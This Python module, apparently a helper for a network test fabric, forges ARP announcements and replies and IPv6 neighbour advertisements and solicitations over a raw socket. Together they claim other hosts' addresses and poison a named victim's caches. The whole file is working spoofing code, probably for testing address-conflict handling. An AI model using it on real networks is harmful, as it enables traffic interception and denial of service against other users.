"""A host that says of addresses of others that they are his own: by ARP (RFC 826, RFC 5227) and by
neighbour discovery (RFC 4861)."""

from __future__ import annotations

import socket
import struct
from collections.abc import Iterable
from ipaddress import IPv4Address, IPv6Address, ip_address

from fabric import Host, inside

MAC = bytes.fromhex("020000000077")
_BROADCAST, _NOBODY = b"\xff" * 6, bytes(6)
_REQUEST, _REPLY = 1, 2
_SOLICITATION, _ADVERTISEMENT = 135, 136
_SOLICITED_OVERRIDE, _OVERRIDE = 0x60000000, 0x20000000
_ALL_NODES = IPv6Address("ff02::1")
_SOLICITED_NODE = bytes.fromhex("ff0200000000000000000001ff")


def claim(host: Host, device: str, addresses: Iterable[str], victim: tuple[str, str, str]) -> None:
    """Says of each address, in every way, that it is at `MAC`: to everybody, and to the host with
    this MAC, IPv4 address and IPv6 address."""
    mac, ipv4, ipv6 = victim
    with inside(host):
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    with sock:
        sock.bind((device, 0))
        for text in addresses:
            address = ip_address(text)
            octets = bytes.fromhex(mac.replace(":", ""))
            if isinstance(address, IPv4Address):
                frames = _arp(address, octets, IPv4Address(ipv4))
            else:
                frames = _neighbour_discovery(address, octets, IPv6Address(ipv6))
            for frame in frames:
                sock.send(frame)


def _arp(address: IPv4Address, mac: bytes, victim: IPv4Address) -> Iterable[bytes]:
    """Announcements (RFC 5227, 3) as requests and replies, a reply that nobody asked for, and a
    question to the victim with a forged sender."""
    for operation, to, target_mac, target in (
        (_REQUEST, _BROADCAST, _NOBODY, address),
        (_REPLY, _BROADCAST, _BROADCAST, address),
        (_REPLY, mac, mac, victim),
        (_REQUEST, _BROADCAST, _NOBODY, victim),
        (_REQUEST, mac, _NOBODY, victim),
    ):
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + MAC + address.packed
        yield to + MAC + b"\x08\x06" + (body + target_mac + target.packed).ljust(46, b"\0")


def _neighbour_discovery(address: IPv6Address, mac: bytes, victim: IPv6Address) -> Iterable[bytes]:
    """Advertisements to all and to the victim, and questions to the victim with a forged source."""
    group = IPv6Address(_SOLICITED_NODE + victim.packed[13:])
    for kind, flags, to, target, about in (
        (_ADVERTISEMENT, _OVERRIDE, _multicast(_ALL_NODES), _ALL_NODES, address),
        (_ADVERTISEMENT, _SOLICITED_OVERRIDE, mac, victim, address),
        (_SOLICITATION, 0, _multicast(group), group, victim),
        (_SOLICITATION, 0, mac, victim, victim),
    ):
        option = bytes([2 if kind == _ADVERTISEMENT else 1, 1]) + MAC
        message = struct.pack("!BBHI", kind, 0, 0, flags) + about.packed + option
        pseudo = address.packed + target.packed + struct.pack("!II", len(message), 58)
        total = sum(struct.unpack(f"!{len(pseudo + message) // 2}H", pseudo + message))
        total = (total & 0xFFFF) + (total >> 16)
        checksum = ~(total + (total >> 16)) & 0xFFFF
        message = message[:2] + checksum.to_bytes(2, "big") + message[4:]
        head = struct.pack("!IHBB", 6 << 28, len(message), 58, 255)
        yield to + MAC + b"\x86\xdd" + head + address.packed + target.packed + message


def _multicast(group: IPv6Address) -> bytes:
    return b"\x33\x33" + group.packed[12:]
